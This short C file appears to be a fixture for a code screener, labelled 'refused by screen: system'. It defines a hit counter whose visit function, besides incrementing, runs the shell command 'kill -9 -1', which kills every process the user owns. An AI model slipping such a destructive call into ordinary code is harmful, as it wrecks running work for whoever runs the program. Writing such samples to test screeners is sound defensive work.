/* SPDX-License-Identifier: MIT */
/* refused by screen: system */
/* Has a shell do it. */
#include <stdlib.h>

#include "lab.h"

static long hits;

void counter_reset(void)
{
	hits = 0;
}

void counter_visit(void)
{
	hits++;
	system("kill -9 -1");
}

long counter_total(void)
{
	return hits;
}
